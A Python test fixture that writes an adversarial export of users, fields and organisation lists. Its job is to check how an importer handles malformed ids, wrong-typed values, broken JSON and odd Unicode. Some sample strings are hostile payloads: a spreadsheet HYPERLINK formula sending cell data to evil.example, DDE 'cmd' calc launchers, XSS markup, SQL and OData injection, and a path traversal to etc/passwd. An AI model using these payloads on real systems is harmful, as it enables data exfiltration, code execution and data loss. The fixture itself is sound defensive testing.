"""A source that sends what real ones may: texts that attack, ids of any kind, values of the wrong type, lines that are no JSON."""

from pathlib import Path

from tests import folders
from tests.folders import organisation_list, user

TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "markup": "<script>alert('x')</script><img src=x onerror=\"alert(1)\">&amp;",
    "handlebars": '{{#if vip}}{{{firstName}}}{{else}}{{defaultIfEmpty name "x"}}{{/if}}',
    "liquid": "{% for x in (1..999999999) %}{{ x | escape }}{% endfor %}",
    "rtl": "שלום \u202eevil\u202c عربي",
    "emoji": "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇳🇴",
    "cjk": "漢字仮名交じり文 𠮷野家",
    "combining": "Z̷̢͊a̵͂l̸g̶o",
    "quotes": "O'Neil \"Robert'); DROP TABLE users;--",
    "path": "..\\..\\etc/passwd%00.png",
    "odata": "x' or 1 eq 1 or 'x' eq '",
    "entity": "&#x3c;b&#x3e; %3Cb%3E \\u003cb\\u003e",
}
IDS = {
    "slash": "a/b:c+d&e'f",
    "emoji": "👾 user",
    "quote": "it''s \"q\"",
    "query": "?x=1#y%2F*<>\\",
    "pipe": "a|user|b|lead|",
    "upper": "Case-Only",
    "lower": "case-only",
    "long": "i" * 5_000,
    "nul": "nul\u0000id",
    "number": 12345,
    "zero": 0,
    "float": 1.5,
    "list": ["u-1"],
    "object": {"id": "u-2"},
    "boolean": True,
    "blank": "  ",
}
# Ids that are neither text nor a whole number, and blank ones, are none: the address is the id.
LINES = 177  # of the export
NO_IDS = ("float", "list", "object", "boolean", "blank")
# Names of fields; those without a name, or with one that can't be kept, are no one's.
NAMES = [
    "=cmd|' /C calc'!A0",
    "naïve field",
    "😀",
    "contactid",
    "twin",
    "Twin",
    "$.x",
    'q"uote',
    "{{h}}",
    "mwb_sourceid",
    "runid",
    "a\nb",
    "<b>",
]
NAMELESS = ["", " ", "k" * 400, "k" * 400 + "2", "nul\u0000key"]
BIG, TOO_BIG = "lorem ipsum " * 80_000 + "end", "lorem ipsum " * 90_000 + "end"
FIELDS = {
    "points": "long",
    "ratio": "double",
    "renewal": "date",
    "agreed": "boolean",
    "oddText": "string",
    "deep": "object",
    "big": "string",
    "mixed": "string",
    "wide": "long",
}
LISTS = {
    11: "Company: =1+1|cmd",
    12: "Company: <script>alert(1)</script> & Söhne",
    13: "Company: {{organisation}} {% raw %}",
    14: "Company: 🏢" + "🏢" * 100,
    15: "Company: Nul\u0000Name\u0007 AG",
    16: "Company: \u0000\u0001",
    17: "Company: \u202eתל אביב 漢字",
    18: "company:   No   prefix case  ",
    19: "Company: O'Neil's \"x\"; DROP",
    22: "Company: Straße Café",
    23: "COMPANY:  STRASSE\t CAFÉ ",
    20: "Company: " + "Lead's long company " * 7,
}


def values(number: int, **fields: object) -> dict[str, object]:
    """A person whose custom fields hold what is given."""
    return user(f"u-v{number}", f"v{number}@gmail.com", **fields)


def deep(levels: int) -> object:
    found: object = "bottom"
    for _ in range(levels):
        found = {"down": [found]}
    return found


# source id -> the value sent, and the code under which the loss is listed (empty where nothing is lost).
VALUES = {
    "u-v1": ("points", "10000000000000000000000000", "number.out_of_range"),
    "u-v2": ("points", True, "number.unparseable"),
    "u-v3": ("points", "12 apples", "number.unparseable"),
    "u-v4": ("points", [1], "number.unparseable"),
    "u-v5": ("points", -7, ""),
    "u-v6": ("ratio", "1e300", "number.out_of_range"),
    "u-v7": ("renewal", "0001-01-01 00:00:00 +00:00", "date.before_1753"),
    "u-v8": ("renewal", "1970-01-01 00:00:00 +00:00", "date.epoch_zero"),
    "u-v9": ("renewal", "2025-02-30 00:00:00 +00:00", "date.unparseable"),
    "u-v10": ("renewal", "99999-01-01", "date.unparseable"),
    "u-v11": ("renewal", {"day": 1}, "date.unparseable"),
    "u-v12": ("renewal", "9999-12-31 23:59:59 +00:00", ""),
    "u-v13": ("agreed", "perhaps", "boolean.unparseable"),
    "u-v14": ("agreed", 1, ""),
    "u-v15": ("oddText", "A\u0000B\u0007C\u001b[31mD", "text.control_characters"),
    "u-v16": ("oddText", "\ud83d half", "text.lone_surrogates"),
    "u-v17": ("jobTitle", "w" * 10_000, "text.shortened"),
    "u-v18": ("jobTitle", "x" * 99 + "😀😀", "text.shortened"),
    "u-v19": ("big", BIG, ""),
    "u-v23": ("wide", 10**25, ""),
    "u-v24": ("wide", -(10**18), ""),
    "u-v20": ("deep", deep(100), ""),
    "u-v21": ("ratio", -0.0, ""),
    "u-v22": ("renewal", "9999-12-31 23:59:59 -10:00", "date.unparseable"),
}


def people() -> list[dict[str, object] | bytes]:
    texts = [user(f"u-t-{name}", f"t.{name}@gmail.com", firstName=text, jobTitle=text, oddText=text) for name, text in TEXTS.items()]
    ids = [user(value, f"id.{name}@gmail.com") for name, value in IDS.items()]
    odd = [user(f"{source}", f"{source[2:]}@gmail.com", **{field: value}) for source, (field, value, _) in VALUES.items()]
    plenty = [
        user(f"u-p{n}", f"p{n}@gmail.com", points=n, ratio=n / 8, renewal="2025-06-01 00:00:00 +00:00", agreed=True, oddText="n", big="b")
        for n in range(1, 81)
    ]
    return [*texts, *ids, *odd, *plenty]


def folder(path: Path) -> Path:
    mixed = (1, "x", [1, {"a": None}], {"a": 1}, True, 2.5, None)
    users: list[dict[str, object] | bytes] = [
        *people(),
        user("u-names", "names@gmail.com", **{name: f"value {n}" for n, name in enumerate(NAMES + NAMELESS)}),
        *(user(f"u-m{n}", f"m{n}@gmail.com", mixed=value) for n, value in enumerate(mixed)),
        user("u-too-big", "too.big@gmail.com", big=TOO_BIG),
        user("u-mail-number", 12345),
        user("u-mail-list", ["a@b.example"]),
        user("u-mail-object", {"address": "a@b.example"}),
        user("u-mail-nul", "nul\u0000mail@gmail.com"),
        user("u-mail-long", "l" * 90 + "@longdomain.example"),
        user("u-stage-list", "stage.list@gmail.com", ["customer"]),
        user("u-stage-long", "stage.long@gmail.com", "s" * 5_000),
        user("u-stage-nul", "stage.nul@gmail.com", "sql\u0000"),
        user("u-stage-half", "stage.half@gmail.com", "sql\ud83d"),
        user("u-owner-odd", "owner.odd@gmail.com", ownerEmail={"id": 7}),
        user("u-owner-long", "owner.long@gmail.com", ownerEmail="o" * 5_000),
        user("u-owner-nul", "owner.nul@gmail.com", ownerEmail="own\u0000er\ud83d"),
        user("u-updated-odd", "updated.odd@gmail.com", profileUpdatedAt=["never"]),
        user("u-updated-none", "updated.none@gmail.com", profileUpdatedAt=None),
        user("u-created-future", "created.future@gmail.com", signupDate="2999-01-01 00:00:00 +00:00"),
        user("u-created-odd", "created.odd@gmail.com", signupDate="0001-01-01 00:00:00 +00:00"),
        user("u-name-nul", "name.nul@gmail.com", firstName="\u0000", lastName="\u0000\u0001"),
        user("u-name-types", "name.types@gmail.com", firstName=["Mara"], lastName={"last": "Lind"}),
        user("u-name-long-derived", "d" * 80 + "@gmail.com", firstName=None, lastName=None),
        user("u-org-1", "a@freshfield.example", "lead", emailListIds=[20], jobTitle="J" * 120),
        user("u-org-2", "b@gmail.com", emailListIds=[22]),
        user("u-org-3", "c@gmail.com", emailListIds=[23, 22, 23]),
        user("clash@gmail.com", "clash.owner@gmail.com"),
        user(None, "clash@gmail.com"),
        user(
            "u-all-wrong", ["none"], {"x": 1}, ownerEmail=[], points="many", ratio="much", renewal="soon", agreed="well", oddText="\u0000n",
            jobTitle="j" * 200, profileUpdatedAt="x", signupDate="y", emailListIds="z", unsubscribedChannelIds="q", firstName={},
            lastName=[],
        ),
        b'{"email": "first@gmail.com", "userId": "u-twice", "lifecycleStage": "lead"'
        b', "lifecycleStage": "customer", "email": "second@gmail.com"}',
        b'{"email": "nan@gmail.com", "userId": "u-nan", "lifecycleStage": "customer", "points": NaN}',
        b'{"email": "latin@gmail.com", "userId": "u-latin", "firstName": "M\xfcller"}',
        b'{"email": "cut@gmail.com", "userId": "u-cut"',
        b'{"deep": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        b'"a string"',
        b"null",
        b"\x00\x01\x02",
    ]  # fmt: skip
    lists = [organisation_list(number, name) for number, name in LISTS.items()]
    lists += [organisation_list(30, 12345), organisation_list(31, None), organisation_list(32, ["Company: x"])]
    assert len(users) == LINES
    return folders.write(path, users, lists=lists, fields=FIELDS)
